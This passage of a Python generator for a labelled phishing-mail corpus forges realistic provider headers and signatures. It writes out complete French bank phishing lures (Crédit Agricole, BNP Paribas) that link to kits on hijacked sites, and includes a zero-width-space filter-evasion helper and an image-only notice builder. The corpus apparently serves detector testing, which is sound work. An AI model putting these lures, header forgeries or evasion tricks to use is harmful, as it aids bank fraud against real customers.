        trail.append(f"X-RZG-Expurgate-ID: 149500::{epoch(dt)}-{hexid(name, 'rzx', 8, True)}-{hexid(name, 'rzy', 8, True)}/0/0")
        trail.append("X-RZG-CLASS-ID: mi00")
    elif provider == "aruba":
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx.aruba.it (Aruba Inbound Smtp) with ESMTPS\n"
                   f"\tid {alnum(name, 'aruid', 20)}; {rfc(dt, cet(dt))}")
        top.append(ar_generic("aruba.it", a, hop.ip, name))
        top.append(f"X-CMAE-Envelope: MS4x{b64(name, 'cmae', 100).replace('=', '')}")
    elif provider == "google":
        ar, rspf = ar_google(a, hop.ip, name)
        gid = f"{alnum(name, 'gid', 12).lower()}.{int(hexid(name, 'gidn', 3), 16)}.{dt:%Y.%m.%d.%H.%M.%S}"
        top.insert(0, f"Delivered-To: {rcpt}")
        top.insert(1, f"Received: by 2002:a05:{hexid(name, 'g1', 4)}:{hexid(name, 'g2', 4)}:b0:{hexid(name, 'g3', 3)}:{hexid(name, 'g4', 4)} "
                      f"with SMTP id {alnum(name, 'gsmtp', 6).lower()};\n        {rfc1(later(dt, 1), pac(dt), pacz(dt))}")
        top.append(f"Received: from {ptr} ({ptr}. [{hop.ip}])\n        by mx.google.com with ESMTPS id {gid}\n"
                   f"        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
                   f"        {rfc1(dt, pac(dt), pacz(dt))}")
        top.append(rspf)
        top.append(ar)
    else:
        raise ValueError(provider)
    return top, trail


def assemble(name: str, provider: str, rcpt: str, arrival: datetime, hop: Hop, a: Auth,
             route: list[str], headers: list[str], body, spam: str = "ham",
             geo: tuple[str, str] = ("FR", "fr")) -> bytes:
    """The whole message: provider headers, the sender's Received chain and signatures, its own headers, body."""
    top, trail = inbound(provider, name, rcpt, arrival, hop, a, spam, geo)
    block = top + route + headers + (["MIME-Version: 1.0"] if not any(h.lower().startswith("mime-version:") for h in headers) else []) + trail
    joined = "\n".join(block).replace("darn=REPL", "darn=" + rcpt.rsplit("@", 1)[1]).replace("REPLRCPT", rcpt)
    return message(joined, body)


# --------------------------------------------------------------------------------------------
# Sending infrastructures: the Received lines and signatures they add
# --------------------------------------------------------------------------------------------

def gmail_route(name: str, sender: str, rcpt: str, dt: datetime, mobile: bool = False) -> tuple[Hop, list[str]]:
    n = 40 + int(hexid(name, "gm", 2), 16) % 20
    host = f"mail-wm1-f{n}.google.com"
    ip = f"209.85.128.{n}"
    sid = f"{alnum(name, 'gsid', 10).lower()}-{alnum(name, 'gsid2', 12).lower()}.{int(hexid(name, 'gsid3', 2), 16)}"
    lines = [
        f"Received: by {host} with SMTP id {sid}\n        for <{rcpt}>; {rfc1(dt, pac(dt), pacz(dt))}",
        dkim(name, "gmail.com", "20230601", dt, "mime-version:from:date:message-id:subject:to\n         :from:to:cc:subject:date:message-id:reply-to", style="google"),
        dkim(name, "1e100.net", "20230601", dt, "mime-version:from:date:message-id:subject:to\n         :x-gm-message-state:from:to:cc:subject:date:message-id:reply-to",
             style="google", label="x").replace("DKIM-Signature", "X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: AOJu0Y{b64(name, 'gms', 60)}\n\t{b64(name, 'gms2', 40)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}==",
        f"X-Received: by 2002:a05:600c:{hexid(name, 'xr', 4)}:b0:{hexid(name, 'xr2', 3)}:{hexid(name, 'xr3', 4)} with SMTP id "
        f"{alnum(name, 'xrid', 24).lower()}.{int(hexid(name, 'xr4', 2), 16)}.{digits(name, 'xr5', 13)};\n        "
        f"{rfc1(dt, pac(dt), pacz(dt))}",
    ]
    return Hop(host, ip), lines


def outlook_consumer_route(name: str, domain: str, dt: datetime) -> tuple[Hop, list[str]]:
    """Mail sent from an outlook.com / hotmail mailbox."""
    n = 2000 + int(hexid(name, "eop", 3), 16) % 90
    host = f"EUR05-DB8-obe.outbound.protection.outlook.com"
    ptr = f"mail-db8eur05olkn{n}.outbound.protection.outlook.com"
    ip = f"40.92.{89 + int(hexid(name, 'eopip', 1), 16) % 3}.{int(hexid(name, 'eopip2', 2), 16) % 250}"
    mbx = f"PAXP{250 + int(hexid(name, 'mbx', 2), 16) % 9}MB{int(hexid(name, 'mbx2', 3), 16) % 9999:04d}.EURP{250 + int(hexid(name, 'mbx', 2), 16) % 9}.PROD.OUTLOOK.COM"
    lines = [
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector9901; d=microsoft.com; cv=none;\n b={fold_b64(b64(name, 'arcs', 342) + '==', 76, 76, ' ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector9901;\n"
        f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        f"X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-Original-BodyHash;\n"
        f" bh={b64(name, 'arcbh', 43)}=;\n b={fold_b64(b64(name, 'arcb', 342) + '==', 76, 76, ' ')}",
        "ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none",
        dkim(name, domain, "selector1", dt, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
        f"Received: from {mbx} (2603:10a6:102:{hexid(name, 'v6', 3)}::{hexid(name, 'v62', 2)})\n"
        f" by {mbx.replace('PAXP', 'AS8P')} with Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{7500 + int(hexid(name, 'b', 3), 16) % 1500}.{int(hexid(name, 'b2', 2), 16) % 40}; {rfc1(dt, '+0000')}",
        f"Received: from {mbx}\n ([fe80::{hexid(name, 'll1', 4)}:{hexid(name, 'll2', 4)}:{hexid(name, 'll3', 4)}:{hexid(name, 'll4', 4)}]) by {mbx}\n"
        f" ([fe80::{hexid(name, 'll1', 4)}:{hexid(name, 'll2', 4)}:{hexid(name, 'll3', 4)}:{hexid(name, 'll4', 4)}%6]) with mapi id 15.20.{7500 + int(hexid(name, 'b', 3), 16) % 1500}.{int(hexid(name, 'b2', 2), 16) % 40}; {rfc1(dt, '+0000')}",
    ]
    return Hop(ptr, ip, host), lines


def gmx_route(name: str, dt: datetime, client_ip: str, domain: str = "gmx.net") -> tuple[Hop, list[str]]:
    n = 100 + int(hexid(name, "mrgmx", 2), 16) % 30
    ip = f"212.227.15.{15 + int(hexid(name, 'mout', 1), 16) % 4}"
    nem = f"{alnum(name, 'snem1', 6)}-{alnum(name, 'snem2', 10)}-{alnum(name, 'snem3', 6)}"
    lines = [
        dkim(name, domain, "s31663417", dt, "X-UI-Sender-Class:Date:From:To:Subject:MIME-Version:Content-Type",
             c="relaxed/simple"),
        "X-UI-Sender-Class: 724b4f7f-cbec-4199-ad4e-598c01a50d3a",
        f"Received: from [{client_ip}] ([{client_ip}]) by mail.gmx.net (mrgmx{n}\n [212.227.17.{160 + n % 30}]) with ESMTPSA (Nemesis) id {nem}; "
        f"{rfc(dt, cet(dt))}",
    ]
    return Hop("mout.gmx.net", ip), lines


def ui_out(name: str) -> list[str]:
    return [
        f"X-Provags-ID: V03:K1:{b64(name, 'provags', 160)}",
        f"X-UI-Out-Filterresults: notjunk:1;V03:K0:{b64(name, 'uiout', 11)}=;{b64(name, 'uiout2', 140)}",
    ]


def ses_route(name: str, domain: str, dt: datetime, region: str = "eu-west-1") -> tuple[Hop, list[str], str]:
    """Amazon SES: returns hop, Received/DKIM lines and the envelope sender."""
    n = 1 + int(hexid(name, "ses", 2), 16) % 250
    host = f"a7-{n}.smtp-out.{region}.amazonses.com"
    ip = f"54.240.7.{n}"
    mid = f"0102{hexid(name, 'sesmid', 12)}-{uuid(name, 'sesuuid')}-000000"
    env = f"{mid}@{region}.amazonses.com"
    lines = [
        dkim(name, domain, alnum(name, "sessel", 32, "abcdefghijklmnopqrstuvwxyz234567"), dt,
             "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date", c="simple/simple", keybits=1024, label="a"),
        dkim(name, "amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv", dt,
             "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date:Feedback-ID", c="simple/simple", keybits=1024, label="b"),
    ]
    return Hop(host, ip), lines, env


def cpanel_route(name: str, host: str, ip: str, dt: datetime, envelope: str, script: str,
                 tz: str = "-0500") -> list[str]:
    """A compromised shared-hosting site sending through PHP mail() and Exim."""
    return [
        f"Received: from [127.0.0.1] (port={40000 + int(hexid(name, 'port', 3), 16) % 20000} helo={host})\n"
        f"\tby {host} with esmtpa (Exim 4.96.2)\n\t(envelope-from <{envelope}>)\n"
        f"\tid 1r{alnum(name, 'exim1', 4)}-{alnum(name, 'exim2', 7)}-{alnum(name, 'exim3', 2)};\n\t{rfc(dt, tz)}",
        f"X-PHP-Script: {script} for {ip}",
    ]


def cpanel_trailer(host: str, user: str, domain: str) -> list[str]:
    return [
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - {host}",
        "X-AntiAbuse: Original Domain - " + domain,
        "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
        f"X-AntiAbuse: Sender Address Domain - {domain}",
        f"X-Get-Message-Sender-Via: {host}: authenticated_id: {user}",
        f"X-Authenticated-Sender: {host}: {user}",
    ]


def ovh_route(name: str, dt: datetime, client_ip: str, user: str) -> tuple[Hop, list[str]]:
    """A mailbox on OVH (MX Plan / Email Pro) sending through mail-out.ovh.net."""
    mo = 500 + int(hexid(name, "mo", 2), 16) % 90
    ip = f"46.105.{40 + int(hexid(name, 'moip', 1), 16) % 30}.{int(hexid(name, 'moip2', 2), 16) % 250}"
    player = 700 + int(hexid(name, "player", 2), 16) % 90
    mx = 1 + int(hexid(name, "mxplan", 1), 16) % 6
    lines = [
        f"Received: from player{player}.ha.ovh.net (unknown [10.108.{20 + mx}.{int(hexid(name, 'pl', 2), 16) % 250}])\n"
        f"\tby mo{mo}.mail-out.ovh.net (Postfix) with ESMTP id {hexid(name, 'moid', 10, True)}\n"
        f"\tfor <REPLRCPT>; {rfc1(dt, '+0000', 'UTC')}",
        f"Received: from {user.split('@')[1]} ([{client_ip}])\n\t(Authenticated sender: {user})\n"
        f"\tby player{player}.ha.ovh.net (Postfix) with ESMTPSA id {hexid(name, 'plid', 12, True)};\n\t{rfc1(later(dt, -1), '+0000', 'UTC')}",
        f"Authentication-Results:garm.ovh; auth=pass (GARM-{100 + int(hexid(name, 'garm', 2), 16) % 20}R00{digits(name, 'garm2', 1)}{hexid(name, 'garm3', 24, True)},\n"
        f"                    {hexid(name, 'garm4', 40, True)}) smtp.auth={user}",
        f"X-OVh-ClientIp: {client_ip}",
    ]
    return Hop(f"mo{mo}.mail-out.ovh.net", ip), lines


def ovh_trailer(name: str) -> list[str]:
    return [
        f"X-Ovh-Tracer-Id: {digits(name, 'otracer', 19)}",
        "X-VR-SPAMSTATE: OK",
        "X-VR-SPAMSCORE: 0",
        "X-VR-SPAMCAUSE: gggruggvucftvghtrhhoucdtuddrgeeffedr" + alnum(name, "ovr", 110, "defghijklmnopqrstuvwxyz"),
    ]


def m365_route(name: str, domain: str, tenant: str, dt: datetime, region: str = "EUR03",
               az: str = "AM7") -> tuple[Hop, list[str]]:
    """Mail sent from an Exchange Online (Microsoft 365) tenant."""
    n = 2100 + int(hexid(name, "m365", 3), 16) % 90
    ptr = f"mail-{az.lower()}{region.lower()}on{n}.outbound.protection.outlook.com"
    ip = f"40.107.{105 + int(hexid(name, 'm365ip', 1), 16) % 10}.{int(hexid(name, 'm365ip2', 2), 16) % 250}"
    mbx = f"PR{3 + int(hexid(name, 'prm', 1), 16) % 3}P{190 + int(hexid(name, 'prm2', 2), 16) % 9}MB{int(hexid(name, 'prm3', 3), 16) % 9999:04d}.EURP{190 + int(hexid(name, 'prm2', 2), 16) % 9}.PROD.OUTLOOK.COM"
    lines = [
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold_b64(b64(name, 'marcs', 342) + '==', 76, 76, ' ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        f"X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-Original-BodyHash;\n"
        f" bh={b64(name, 'marcbh', 43)}=;\n b={fold_b64(b64(name, 'marcb', 342) + '==', 76, 76, ' ')}",
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={domain}; dmarc=pass action=none\n"
        f" header.from={domain}; dkim=pass header.d={domain}; arc=none",
        dkim(name, domain, "selector1", dt, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck",
             style="ms"),
        f"Received: from {mbx} (2603:10a6:102:{hexid(name, 'mv6', 3)}::{hexid(name, 'mv62', 2)})\n"
        f" by {mbx.replace('PR', 'AS', 1)} with Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{7500 + int(hexid(name, 'mb', 3), 16) % 1500}.{int(hexid(name, 'mb2', 2), 16) % 40}; {rfc1(dt, '+0000')}",
        f"Received: from {mbx}\n ([fe80::{hexid(name, 'ml1', 4)}:{hexid(name, 'ml2', 4)}:{hexid(name, 'ml3', 4)}:{hexid(name, 'ml4', 4)}]) by {mbx}\n"
        f" ([fe80::{hexid(name, 'ml1', 4)}:{hexid(name, 'ml2', 4)}:{hexid(name, 'ml3', 4)}:{hexid(name, 'ml4', 4)}%4]) with mapi id 15.20.{7500 + int(hexid(name, 'mb', 3), 16) % 1500}.{int(hexid(name, 'mb2', 2), 16) % 40}; {rfc1(dt, '+0000')}",
    ]
    return Hop(ptr, ip, f"{region}-{az}-obe.outbound.protection.outlook.com"), lines


def m365_client_headers(name: str, domain: str, dt: datetime, topic: str, lang: str = "fr-FR",
                        attach: bool = False) -> list[str]:
    return [
        f"Thread-Topic: {enc(topic, 'Q')}",
        f"Thread-Index: {b64(name, 'tindex', 30)}==",
        f"Accept-Language: {lang}, en-US",
        f"Content-Language: {lang}",
        f"X-MS-Has-Attach: {'yes' if attach else ''}",
        "X-MS-TNEF-Correlator:",
        f"x-ms-exchange-senderadcheck: 1",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {uuid(name, 'xtnet')}",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {dt:%d %b %Y %H:%M:%S}.{digits(name, 'oat', 4)} (UTC)",
        "X-MS-Exchange-CrossTenant-fromentityheader: Hosted",
        f"X-MS-Exchange-CrossTenant-id: {uuid(name, 'tenant')}",
        "X-MS-Exchange-CrossTenant-mailboxtype: HOSTED",
        f"X-OriginatorOrg: {domain}",
    ]


def workspace_route(name: str, domain: str, dt: datetime) -> tuple[Hop, list[str]]:
    """Mail sent from a Google Workspace mailbox."""
    n = 40 + int(hexid(name, "gws", 2), 16) % 20
    host = f"mail-ej1-f{n}.google.com"
    ip = f"209.85.218.{n}"
    sid = f"{alnum(name, 'wsid', 10).lower()}-{alnum(name, 'wsid2', 12).lower()}.{int(hexid(name, 'wsid3', 2), 16)}"
    lines = [
        f"Received: by {host} with SMTP id {sid}\n        for <REPLRCPT>; {rfc1(dt, pac(dt), pacz(dt))}",
        dkim(name, domain, "google", dt, "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n         :date:message-id:reply-to", style="google"),
        f"X-Gm-Message-State: AOJu0Y{b64(name, 'wgms', 60)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(name, 'wgss', 80)}==",
        f"X-Received: by 2002:a17:907:{hexid(name, 'wxr', 4)}:b0:{hexid(name, 'wxr2', 3)}:{hexid(name, 'wxr3', 4)} with SMTP id "
        f"{alnum(name, 'wxrid', 24).lower()}.{int(hexid(name, 'wxr4', 2), 16)}.{digits(name, 'wxr5', 13)};\n        "
        f"{rfc1(dt, pac(dt), pacz(dt))}",
    ]
    return Hop(host, ip), lines


# --------------------------------------------------------------------------------------------
# Bodies and attachments
# --------------------------------------------------------------------------------------------

def alt(name: str, plain: str, html: str, encoding: str = "quoted-printable", charset: str = "utf-8",
        boundary: str | None = None) -> Multi:
    return Multi("alternative", boundary or f"----=_Part_{digits(name, 'alt', 6)}_{digits(name, 'alt2', 9)}.{digits(name, 'alt3', 13)}",
                 [text(plain, "plain", encoding, charset), text(html, "html", encoding, charset)])


def html_only(html: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Leaf:
    return text(html, "html", encoding, charset)


def latin1(value: str) -> str:
    return value.encode("cp1252", "replace").decode("cp1252")


def _pdf_escape(value: str) -> str:
    return value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_doc(lines: list[str], title: str, producer: str = "Microsoft: Print To PDF",
            creator: str = "", link: tuple[str, str] | None = None, created: str = "20240312091500+01'00'",
            qr: str | None = None, header_lines: list[str] | None = None) -> bytes:
    """A one-page PDF: a bold header, lines of text, optionally a coloured button linking to a URL and/or a QR code."""
    content = ["BT", "/F2 15 Tf", "56 790 Td"]
    for line in header_lines or []:
        content.append(f"({_pdf_escape(line)}) Tj 0 -19 Td")
    content += ["ET", "BT", "/F1 10.5 Tf", "14 TL", "56 740 Td"]
    for line in lines:
        content.append(f"({_pdf_escape(line)}) Tj T*")
    content.append("ET")
    annots = ""
    objects: list[bytes] = []
    image = None
    if link:
        url, label = link
        content += ["0.05 0.35 0.65 rg", "56 250 260 36 re f",
                    "BT /F2 12 Tf 1 1 1 rg", f"72 264 Td ({_pdf_escape(label)}) Tj ET"]
    if qr:
        import segno
        code = segno.make(qr, error="m", micro=False)
        matrix = [list(row) for row in code.matrix]
        size = len(matrix) + 8
        scale = 4
        pixels = bytearray()
        for y in range(size * scale):
            row = []
            for x in range(size * scale):
                my, mx = y // scale - 4, x // scale - 4
                dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
                row.append(0 if dark else 255)
            pixels += bytes(row)
        image = (zlib.compress(bytes(pixels), 9), size * scale, size * scale)
        content += ["q", "170 0 0 170 56 230 cm", "/Im1 Do", "Q"]
    stream = "\n".join(content).encode("cp1252", "replace")
    resources = "/Font << /F1 4 0 R /F2 6 0 R >>"
    if image:
        resources += " /XObject << /Im1 7 0 R >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        None,  # page, filled below
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
    ]
    if image:
        data, w, h = image
        objects.append((f"<< /Type /XObject /Subtype /Image /Width {w} /Height {h} /ColorSpace /DeviceGray "
                        f"/BitsPerComponent 8 /Filter /FlateDecode /Length {len(data)} >>\nstream\n").encode()
                       + data + b"\nendstream")
    if link:
        annots = f" /Annots [{len(objects) + 1} 0 R]"
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [56 250 316 286] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({_pdf_escape(link[0])}) >> >>".encode())
    objects[2] = (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << {resources} >> "
                  f"/Contents 5 0 R{annots} >>").encode()
    info = f"<< /Title ({_pdf_escape(title)}) /Producer ({_pdf_escape(producer)})"
    if creator:
        info += f" /Creator ({_pdf_escape(creator)})"
    info += f" /CreationDate (D:{created}) /ModDate (D:{created}) >>"
    objects.append(info.encode("cp1252", "replace"))
    return files.pdf_file(objects, len(objects))


def banner_png(lines: list[tuple[str, int, tuple[int, int, int]]], size: tuple[int, int],
               background: tuple[int, int, int], bar: tuple[int, int, int] | None = None,
               button: tuple[str, tuple[int, int, int]] | None = None) -> bytes:
    """An image carrying a whole notice as text (image-only phishing bodies)."""
    from PIL import Image, ImageDraw, ImageFont

    import unicodedata

    def fold(value: str) -> str:  # Pillow's bundled font has no accented glyphs; kits often drop them too
        return unicodedata.normalize("NFKD", value).encode("ascii", "ignore").decode()

    image = Image.new("RGB", size, background)
    draw = ImageDraw.Draw(image)
    y = 20
    for index, (content, font_size, colour) in enumerate(lines):
        font = ImageFont.load_default(size=font_size)
        if bar and index == 0:
            draw.rectangle([0, 0, size[0], 70], fill=bar)
            draw.text((30, 20), fold(content), fill=colour, font=font)
            y = 92
            continue
        draw.text((30, y), fold(content), fill=colour, font=font)
        y += int(font_size * 1.55)
    if button:
        label, colour = button
        draw.rounded_rectangle([30, y + 10, 330, y + 60], radius=8, fill=colour)
        draw.text((52, y + 24), fold(label), fill=(255, 255, 255), font=ImageFont.load_default(size=19))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


def zw(value: str, every: int = 3) -> str:
    """Interleave zero-width spaces and joiners inside words (filter evasion)."""
    marks = ["\u200b", "\u200c", "\u2060", "\u200d"]
    out = []
    count = 0
    for char in value:
        out.append(char)
        if char.isalpha():
            count += 1
            if count % every == 0:
                out.append(marks[count % len(marks)])
    return "".join(out)


# --------------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------------

def main() -> None:
    lines = []
    seen = set()
    for category, filename, description, builder in SAMPLES:
        assert filename.startswith("b12-") and filename.endswith(".eml"), filename
        assert filename not in seen, filename
        seen.add(filename)
        data = builder(filename[:-4])
        assert b"REPLRCPT" not in data and b"REPLTOPIC" not in data, filename
        target = MAIL / category / filename
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        lines.append(f"samples/mail/{category}/{filename} | {category} | {description}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for category, *_ in SAMPLES:
        counts[category] = counts.get(category, 0) + 1
    print(f"wrote {len(SAMPLES)} samples: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))


# ============================================================================================
# SAMPLES
# ============================================================================================

def std(frm: str, to: str, subject: str, date: str, msgid: str, *extra: str, mode: str = "B") -> list[str]:
    return [f"From: {frm}", f"To: {to}", f"Subject: {enc(subject, mode)}", f"Date: {date}", f"Message-ID: <{msgid}>", *extra]


def filler_fr() -> str:
    return ("La recette du far breton de mamie : beurre demi-sel, pruneaux d'Agen, lait entier, une pincée de "
            "sel et un four bien chaud. Le marché du samedi matin reprend place des Lices après les travaux, les "
            "producteurs locaux seront présents dès 7h30. Les résultats du tournoi de pétanque seront affichés en "
            "mairie. Prévisions : éclaircies l'après-midi, vent d'ouest modéré, températures de saison.")


# --------------------------------------------------------------------------------------------
# PHISHING — French
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-credit-agricole-securipass-compromised-ovh.eml",
        "Crédit Agricole 'nouveau système de sécurité SécuriPass' sent from a joinery's hijacked OVH mailbox "
        "(SPF/DKIM pass for menuiserie-lebreton.fr, not the bank) in Bcc to a laposte.net customer; the button leads "
        "to a kit under wp-content/plugins on a compromised gîte's WordPress site")
def _(name):
    sent = when("Tue, 14 Mar 2023 07:42:18 +0100")
    rcpt = "m.legoff56@laposte.net"
    sender = "contact@menuiserie-lebreton.fr"
    hop, route = ovh_route(name, sent, "102.50.247.19", sender)
    sel = f"ovhmo{digits(name, 'sel', 7)}-selector1"
    a = Auth(sender, "menuiserie-lebreton.fr", "pass", "pass", "menuiserie-lebreton.fr", sel, "none", "absent")
    url = ("https://gite-les-hortensias-56.fr/wp-content/plugins/wp-securipass/ca/particuliers/"
           f"authentification.php?caisse=morbihan&sid={hexid(name, 'sid', 24)}")
    plain = f"""Crédit Agricole

Chère cliente, cher client,

Dans le cadre du renforcement de la sécurité de vos opérations en ligne, le Crédit Agricole
déploie un nouveau système de sécurité : SécuriPass nouvelle génération.

Votre dispositif actuel arrive à expiration le 16/03/2023. Sans réactivation de votre part,
l'accès à votre espace Crédit Agricole En Ligne ainsi que la validation de vos paiements par
carte seront suspendus.

Réactiver mon SécuriPass : {url}

La procédure ne prend que 2 minutes.

Nous vous remercions de votre confiance.
Le service Sécurité Clients – Crédit Agricole
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;margin:20px 0">
<tr><td style="background:#006a4e;padding:18px 24px;color:#ffffff;font-size:22px;font-weight:bold">Crédit Agricole</td></tr>
<tr><td style="padding:24px;color:#333333;font-size:14px;line-height:21px">
<p>Chère cliente, cher client,</p>
<p>Dans le cadre du renforcement de la sécurité de vos opérations en ligne, le Crédit Agricole déploie un
<b>nouveau système de sécurité : SécuriPass nouvelle génération</b>.</p>
<p>Votre dispositif actuel arrive à expiration le <b>16/03/2023</b>. Sans réactivation de votre part, l'accès à
votre espace Crédit Agricole En Ligne ainsi que la validation de vos paiements par carte seront suspendus.</p>
<p style="text-align:center;margin:28px 0"><a href="{url}" style="background:#009c7a;color:#ffffff;padding:13px 26px;text-decoration:none;border-radius:4px;font-weight:bold">Réactiver mon SécuriPass</a></p>
<p>La procédure ne prend que 2 minutes.</p>
<p>Nous vous remercions de votre confiance.<br>Le service Sécurité Clients – Crédit Agricole</p>
</td></tr>
<tr><td style="padding:14px 24px;background:#eeeeee;color:#888888;font-size:11px">Ce message vous est adressé automatiquement, merci de ne pas y répondre.</td></tr>
</table></td></tr></table></body></html>
"""
    dt = later(sent, 0)
    headers = [
        dkim(name, "menuiserie-lebreton.fr", sel, dt, "From:Subject:Date:Message-ID:To:MIME-Version:Content-Type"),
        *std(addr("Crédit Agricole", sender), "undisclosed-recipients:;",
             "Important : votre SécuriPass expire – nouveau système de sécurité", rfc(dt),
             f"{hexid(name, 'mid', 32)}@menuiserie-lebreton.fr"),
        "X-Mailer: Microsoft Outlook 16.0",
        "Content-Language: fr",
        *ovh_trailer(name),
    ]
    body = alt(name, plain, html)
    return assemble(name, "laposte", rcpt, later(sent, 3), hop, a, route, headers, body)


@sample("phishing", "b12-bnp-dsp2-authentification-forte-weebly.eml",
        "BNP Paribas 'mise à jour DSP2 / authentification forte obligatoire' from the lookalike bnpparibas-dsp2.info "
        "(a VPS that passes its own SPF/DKIM/DMARC) to an orange.fr customer; the link goes to a Weebly site")
def _(name):
    sent = when("Mon, 27 Mar 2023 18:03:51 +0200")
    rcpt = "christiane.morvan@orange.fr"
    dom = "bnpparibas-dsp2.info"
    sender = f"service-client@{dom}"
    hop = Hop(f"mail.{dom}", "185.254.196.87")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "pass", "none")
    url = f"https://bnp-dsp2-authentification.weebly.com/?client={hexid(name, 'c', 10)}"
    route = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0200', 'CEST')}",
        dkim(name, dom, "default", sent, "Date:From:To:Subject:From"),
    ]
    plain = f"""BNP PARIBAS – La banque d'un monde qui change

Madame, Monsieur,

Conformément à la Directive européenne sur les services de paiement (DSP2), l'authentification
forte devient obligatoire pour l'accès à vos comptes et la validation de vos paiements en ligne.

Nos services constatent que votre Clé Digitale n'a pas encore été mise à jour.
Sans action de votre part avant le 31/03/2023, vos opérations en ligne seront bloquées.

Mettre à jour mon authentification : {url}

BNP Paribas – Service Client
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>BNP Paribas</title></head>
<body style="font-family:Arial,sans-serif;color:#222;background:#ffffff">
<div style="max-width:580px;margin:auto;border:1px solid #e0e0e0">
<div style="background:#00915a;color:#fff;padding:16px 20px;font-size:20px"><b>BNP PARIBAS</b><br><span style="font-size:12px">La banque d'un monde qui change</span></div>
<div style="padding:22px;font-size:14px;line-height:1.5">
<p>Madame, Monsieur,</p>
<p>Conformément à la Directive européenne sur les services de paiement (<b>DSP2</b>), l'authentification forte devient obligatoire pour l'accès à vos comptes et la validation de vos paiements en ligne.</p>
<p>Nos services constatent que votre <b>Clé Digitale</b> n'a pas encore été mise à jour. Sans action de votre part avant le <b>31/03/2023</b>, vos opérations en ligne seront bloquées.</p>
<p style="text-align:center"><a href="{url}" style="display:inline-block;background:#00915a;color:#fff;padding:12px 24px;text-decoration:none">Mettre à jour mon authentification</a></p>
<p>BNP Paribas – Service Client</p>
</div></div></body></html>
"""
    headers = std(addr("BNP Paribas", sender), rcpt, "Action requise : authentification forte DSP2 – votre Clé Digitale",
                  rfc(sent), f"{hexid(name, 'mid', 20)}@{dom}", "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)")
    return assemble(name, "orange", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-societe-generale-pass-securite-html-attachment.eml",
        "Société Générale Professionnels 'renouvellement Pass Sécurité' from a law firm's hijacked Microsoft 365 "
        "mailbox (all authentication passes for cabinet-delmas-avocats.fr) to a bakery on OVH; the attached .html "
        "writes a login form with obfuscated atob()/hex-indexed JavaScript and posts the codes to a Telegram bot")
def _(name):
    sent = when("Wed, 15 May 2024 09:12:40 +0000")
